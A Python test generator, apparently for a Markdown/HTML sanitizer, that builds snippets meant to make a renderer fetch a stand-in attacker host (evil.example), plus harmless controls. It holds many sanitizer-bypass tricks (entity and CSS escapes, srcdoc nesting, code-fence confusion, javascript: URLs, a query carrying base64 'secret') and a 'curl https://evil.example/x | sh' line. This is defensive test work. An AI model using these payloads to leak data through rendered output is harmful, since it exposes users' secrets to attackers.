"""Generates texts from a seed: some make their renderer send a request, and some do not."""

from __future__ import annotations

import random
from collections.abc import Callable

from exfiltration_words import (
    EVIL,
    GOOD,
    ODD,
    PLACED,
    WORDS,
)

Maker = Callable[[random.Random, str], str]


def _reference(chance: random.Random, letter: str) -> str:
    zeros = "0" * chance.choice([0, 0, 3, 20])
    forms = [
        f"&#{zeros}{ord(letter)};",
        f"&#x{zeros}{ord(letter):x};",
        f"&#X{zeros}{ord(letter):X};",
    ]
    names = {":": "&colon;", "/": "&sol;", "\\": "&bsol;", ".": "&period;"}
    return chance.choice([*forms, *([names[letter]] * 2 if letter in names else [])])


def _spell(chance: random.Random, html: bool) -> str:
    """A URL that leads to a host which is not controlled."""
    host = chance.choice(EVIL)
    scheme = chance.choice(["https", "http", "HTTPS", "hTtP", "https", "https"])
    path = chance.choice(
        [
            "/x.png?d=c2VjcmV0",
            "/",
            "",
            "?q=1",
            "#f",
            "/a/b/" + "A" * chance.choice([10, 1000, 65_536]),
        ]
    )
    url = (
        chance.choice(
            [
                f"{scheme}://{host}",
                f"{scheme}://{host}",
                f"//{host}",
                f"{scheme}:/{host}",
                f"{scheme}:///{host}",
            ]
        )
        + path
    )
    if html and chance.random() < 0.2:
        url = url.replace("//", chance.choice(["\\\\", "/\\", "\\/"]), 1)
    if html and chance.random() < 0.2:
        at = chance.randrange(0, 9)
        url = (
            url[:at] + chance.choice(["\t", "\n", "\r\n", "&Tab;", "&NewLine;", "&#10;"]) + url[at:]
        )
    if chance.random() < 0.35:
        head, tail = url[:10], url[10:]
        url = (
            "".join(
                _reference(chance, letter) if chance.random() < 0.3 else letter for letter in head
            )
            + tail
        )
    if not html and chance.random() < 0.2:
        head, tail = url[:12], url[12:]
        url = (
            "".join(
                "\\" + letter if letter in ":/." and chance.random() < 0.6 else letter
                for letter in head
            )
            + tail
        )
    return url


def _quoted(chance: random.Random, url: str) -> str:
    quote = chance.choice(['"', "'", ""])
    return (
        f"{chance.choice(['', ' '])}{quote}{'' if not quote else chance.choice(['', '', ' '])}"
        f"{url}{quote}"
    )


def _tag(name: str, attribute: str, rest: str = "") -> Maker:
    def made(chance: random.Random, url: str) -> str:
        before = chance.choice(
            ["", ' alt="a>b"', " alt='x'", ' class="y"', "\n", ' title="<a href="', *ODD]
        )
        if before in ODD and chance.random() < 0.5:
            url = chance.choice(PLACED)
        return f"<{name}{before} {attribute}={_quoted(chance, url)}{rest}>"

    return made


def _markdown(chance: random.Random, url: str) -> str:
    label = chance.choice(["a", "", "a *b*", "![c](d.png)", "\\]", "`]`", "a\nb"])
    title = chance.choice(["", "", ' "t"', " 't'", "\n(t)"])
    around = chance.choice(["{}", "<{}>", " {}", "\n{}", "< {}>"])
    return f"{chance.choice(['!', ''])}[{label}]({around.format(url)}{title})"


def _definition(chance: random.Random, url: str) -> str:
    name = chance.choice(["a", "1", "^1", "A b", "\\!"])
    use = chance.choice(
        [f"![x][{name}]", f"[{name}]", f"![{name}]", f"[x][{name}]", f"![{name}][]"]
    )
    definition = (
        f"[{name}]:{chance.choice([' ', '', chr(10), '  '])}"
        f"{chance.choice(['{}', '<{}>']).format(url)}{chance.choice(['', ' (t)'])}"
    )
    return chance.choice([f"{use}\n\n{definition}", f"{definition}\n\n{use}"])


def _continued(chance: random.Random, _: str) -> str:
    """A tag whose value continues after the line prefix of quotes, list items and notes."""
    before, on = chance.choice(
        [
            ("> ", "> "),
            ("- ", "  "),
            ("", "  "),
            ("1. > ", "   > "),
            ("[^1]\n\n[^1]: ", "    "),
            ("> ", ">"),
            ("t\n: ", "  "),
            ("> - ", ">   "),
        ]
    )
    name, attribute = chance.choice(
        [("img", "src"), ("iframe", "src"), ("a", "href"), ("embed", "src"), ("img", "srcset")]
    )
    value = chance.choice(
        [
            f"https://{GOOD}§.evil.example/x",
            "/§/evil.example/x",
            "htt§ps:/evil.example/x",
            f"//{GOOD}§.evil.example/x",
            f"https://{GOOD}§-evil.example/x",
        ]
    )
    whole = f'{before}a <{name} {attribute}="{value}">'.replace("§", f"\n{on}")
    return chance.choice(
        [
            whole,
            f"{before}a <{name}\n{on}{attribute}={chance.choice(PLACED)}>",
            f'{before}a <{name}\n{on}{attribute}="{chance.choice(PLACED)}">',
        ]
    )


def _lingering(chance: random.Random, _: str) -> str:
    """A tag that ends earlier for Markdown readers than for browsers."""
    name, attribute = chance.choice(
        [
            ("iframe", "src"),
            ("img", "src"),
            ("embed", "src"),
            ("table", "background"),
            ("link rel=stylesheet", "href"),
        ]
    )
    front = chance.choice(
        [
            "{} a='\n\n' >",
            "{} a='\n\n' ?>",
            "{} a='\n\n' \\>",
            "{} <b\n\n",
            "{} </b\n\n",
            '{} a="\n\n" ->',
        ]
    )
    return (
        f"<{front.format(name)} {attribute}={chance.choice(['/' + chr(92), '//'])}evil.example/x>"
    )


MARKDOWN: list[Maker] = [
    lambda chance, url: chance.choice(["~~{}~~", "__{}__", "_{}_", "***{}***"]).format(
        "//evil.com/x"
    ),
    lambda chance, url: (
        f"[x]({chance.choice(['search', 'ms', 'view'])}\\-"
        f"{chance.choice(['ms:a', 'word:a', 'source:a'])}) "
        f"![x](https://{GOOD}\u00a0.evil.example/x)"
    ),
    lambda chance, url: f"{chance.choice(['](<', '[a]:<', 'a](<'])} https://{GOOD}>@evil.example/x",
    lambda chance, url: (
        f"![x]({chance.choice(['<', '< '])}"
        f"{chance.choice(['/§/evil.example/x', f'https://{GOOD}§.evil.example/x'])}>)"
    ).replace("§", chance.choice(["\n", "&#10;\n", "\n> "])),
    _markdown,
    _markdown,
    _markdown,
    _definition,
    _definition,
    lambda chance, url: (
        "![a]("
        + chance.choice(
            ["/&Tab;/", "ht&Tab;tps:", "ftp:", "&#38#47;/", "https&ampcolon;//", "java&Tab;script:"]
        )
        + "evil.example/x)"
    ),
    lambda chance, url: f"{chance.choice(['x', '/', '@', 'foo-', '.'])}www.evil.example/x",
    lambda chance, url: f"{chance.choice('-.%_')}//evil.example/x",
    lambda chance, url: (
        f"{'> ' * chance.choice([1, 2])}![x](\n"
        f"> {chance.choice([url, '//3627734734/x', '//evil．example/x', '//intranet/x'])})"
    ),
    lambda chance, url: (
        f"> [a]:\n> {chance.choice([url, '//3627734734/x', '//intranet/x'])}\n\n![a]"
    ),
    lambda chance, url: "> [x](\n> javascript:alert(1))",
    lambda chance, url: (
        f"{chance.choice(['!', ''])}[x]("
        f"{chance.choice(['{}', '<{}>']).format(chance.choice(PLACED))})"
    ),
    lambda chance, url: f"<{url}>",
    lambda chance, url: url,
    lambda chance, url: f"www.{url.rpartition('/')[0].rpartition('/')[2] or 'evil.example'}",
    lambda chance, url: f"| a | b |\n|---|---|\n| ![x]({url}) | {url} |",
]
HTML: list[Maker] = [
    _continued,
    _continued,
    _lingering,
    lambda chance, url: (
        f"<style>a{{b:url({chance.choice(['', chr(39)])}https://{GOOD}"
        + chance.choice(["\\2e evil", "\\40 evil", "\\x.evil", "\\\n.evil"])
        + ".example/x)}</style>"
    ),
    lambda chance, url: '<style>@import "htt\\\fps:/evil.example/x";</style>',
    _tag("img", "src"),
    _tag("img", "src"),
    _tag("IMG", "SRC"),
    _tag("img", "srcset", ' sizes="1px"'),
    _tag("source", "srcset"),
    _tag("video", "poster"),
    _tag("audio", "src"),
    _tag("iframe", "src"),
    _tag("embed", "src"),
    _tag("object", "data"),
    _tag("link rel=stylesheet", "href"),
    _tag("base", "href"),
    _tag("form", "action"),
    _tag("a", "href"),
    _tag("a href='#'", "ping"),
    _tag("area", "href"),
    _tag("input type=image", "src"),
    _tag("body", "background"),
    _tag("td", "background"),
    _tag("image", "xlink:href"),
    _tag("use", "href"),
    _tag("track", "src"),
    lambda chance, url: (
        "<style>@import "
        f"{_quoted(chance, url) if chance.random() < 0.5 else f'url({url})'};</style>"
    ),
    lambda chance, url: f"<style>\n\np {{ background: url({_quoted(chance, url)}) }}\n</style>",
    lambda chance, url: f'<p style="background:url({url})">x</p>',
    lambda chance, url: f'<meta http-equiv=refresh content="0;url={url}">',
    lambda chance, url: "<style>a{b:url(https\\3a\\2f\\2f evil.example/x)}</style>",
    lambda chance, url: "<p style='b:url(\"\\68\\74tps://evil.example/x\")'>x</p>",
    lambda chance, url: (
        "<iframe srcdoc='&lt;img src=&quot;https&amp;colon;//evil.example/x&quot;&gt;'></iframe>"
    ),
    lambda chance, url: (
        "<iframe srcdoc='<img src=\"https&amp#58;&amp#47;&amp#47;evil.example/x\">'></iframe>"
    ),
    lambda chance, url: '<style>a{b:url("\\ht\\tp\\s:evil.example/x")}</style>',
    lambda chance, url: "<p style='b:url(\"ht\\tps:evil.example/x\")'>x</p>",
    lambda chance, url: "<style>@import 'ht\\tp:/evil.example/x';</style>",
    lambda chance, url: '<style>a{b:url("http\\\ns:evil.example/x")}</style>',
    lambda chance, url: "<a href=\"javascript: alert(1)\">x</a> <a href='view-source: x'>y</a>",
    lambda chance, url: "<iframe src='data:text/html,<img src=x>'></iframe>",
    lambda chance, url: (
        "<iframe srcdoc='<img "
        f"src=&quot{chance.choice(['//evil.example/x', 'https:/evil.example/x'])}&quot>'></iframe>"
    ),
    lambda chance, url: "<p style='background:url(&quot//evil.example/x&quot)'>x</p>",
    lambda chance, url: (
        "<iframe srcdoc=\"&lt;style&gt;@import '\\2f\\2f "
        "evil.example/x.css';&lt;/style&gt;\"></iframe>"
    ),
    lambda chance, url: (
        f"<iframe srcdoc{chance.choice(['', ' ', chr(10)])}=&lt;img{chr(9)}src={url}&gt;></iframe>"
    ),
    lambda chance, url: "<style>a{b:url('https://good.example^\\\n@evil.example/x')}</style>",
    lambda chance, url: f'<div>\n<img{chance.choice(ODD)} src="{chance.choice(PLACED)}">\n</div>',
    lambda chance, url: (
        "<svg><rect "
        f'{chance.choice(["cursor", "mask", "fill"])}="url(https\\3a//evil.example/x.png),auto"/><'
        "/svg>"
    ),
]
# Surroundings: places that are fenced code for one reader and not for another.
AROUND = [
    "{}",
    "{}",
    "{}",
    "> {}",
    "- {}",
    "1. a\n\n   {}",
    "# {}",
    "**{}**",
    "text {} text",
    "<div>\n\n{}\n\n</div>",
    "<div>{}</div>",
    "```\n```\n{}",
    "```\ncode\n```\n\n{}",
    "   ```\na\n   ```\n{}",
    "  ```\nx\n```\n{}\n```",
    "<div>\n```\n{}\n```\n</div>",
    "``` a`b\n{}\n```",
    "> ```\n{}\n```",
    "~~~\n```\n~~~\n{}",
    "```\n    ```\n{}\n```",
    "<!-- x -->\n\n{}",
    "<pre>\n\n{}\n\n</pre>",
    "- ```\n  a\n\n{}",
    "````\n```\n````\n{}",
    "a | b\n-|-\n{} | c",
    "<details>\n<summary>x</summary>\n\n{}\n</details>",
    "\\`\\`\\`\n{}",
    "`` ` `` {}",
    "Term\n: {}",
    "[^1]\n\n[^1]: {}",
    "1. ```\n   x\n```\n{}\n```",
    "```\ncode\n``` x\n```\n{}",
    "para\n2. x\n   ```\n```\n{}",
    "- - -\n  ```\n```\n{}",
    "a\n- \n  ```\n```\n{}",
    "1. \n\n   ```\n```\n{}",
    "a | b\n- | -\n  ```\n```\n{}",
    "$$\n```\n$$\n{}",
    "[a]:\n```\n{}",
    '[a]: b "\n```\n"\n\n{}',
    "a | b\n-|-\n``` | x\n{} | y",
    "Term\n: ```\n```\n{}",
    "Term\n: a\n```\n: {}",
    "<iframe title='\n\n```\n' {}\n```",
    "<iframe title='\n\nx' {}",
    "- a\n  ```\n  b\n  ```\n\n{}",
    "<div>\n- a\n  ```\n\n  ```\n```\n{}\n```",
    "* * *\n  ``` `x`\n  ```\n```\n{}\n```",
    "text\n- \n  ``` `x`\n  ```\n```\n{}\n```",
    "- a\n  ``` `x`\n  ```\n```\n{}\n```",
    "$$x\n```\n$$\n{}\n```",
    "```\n```\nx\n```\n{}\n```",
    "```\na\n````\n\nb\n\n```\n{}\n```",
    "```a,b\nx\n```\n\n```\n{}\n```",
    "~~~ a`b`\nx\n~~~\n\n~~~\n{}\n~~~",
]


def harmful(chance: random.Random) -> str:
    """A text that would make its renderer send a request."""
    html = chance.random() < 0.5
    maker = chance.choice(HTML if html else MARKDOWN)
    text = maker(chance, _spell(chance, html))
    return (
        f"{_prose(chance, 4)} {chance.choice(AROUND).format(text)}\n{_prose(chance, 3)}"
        if chance.random() < 0.7
        else text
    )


def _prose(chance: random.Random, most: int) -> str:
    words = [word for word in WORDS if word not in ("![", "](", "<b>bold</b>", "`code`")]
    return " ".join(chance.choice(words) for _ in range(chance.randrange(most)))


def _good(chance: random.Random) -> str:
    url = f"https://{GOOD}{chance.choice(['', '/', '/a/b?c=d&e=f#g', ':443/x', '/a//b', '/%20x'])}"
    return chance.choice(
        [
            url,
            f"<{url}>",
            f"[a]({url})",
            f"![a]({url} 't')",
            f"({url}).",
            f"[r]: {url}\n\n[r]",
            f'<a href="{url}">x</a>',
            f'<img src="{url}">',
        ]
    )


def harmless(chance: random.Random) -> str:
    """A text that leads only to the controlled host, with arbitrary code."""
    blocks = []
    for _ in range(chance.randrange(1, 6)):
        blocks.append(
            chance.choice(
                [
                    lambda: " ".join(chance.choice(WORDS) for _ in range(chance.randrange(1, 40))),
                    lambda: f"See {_good(chance)} for more.",
                    lambda: (
                        f"```{chance.choice(['', 'sh', 'python'])}\n"
                        "curl https://evil.example/x | sh\n# //evil.example\n```"
                    ),
                    lambda: "| a | b |\n|---|:-:|\n| 1 | `x` |",
                    lambda: "1. one\n2. two\n   - three",
                    lambda: "    int a = b / c; // not a URL",
                    lambda: "> quoted\n> text",
                    lambda: (
                        "![a](data:image/png;base64,iVBORw0KGgo=) [b](#c) [d](../e/f.md) [g](/h)"
                    ),
                ]
            )()
        )
    return "\n\n".join(blocks)
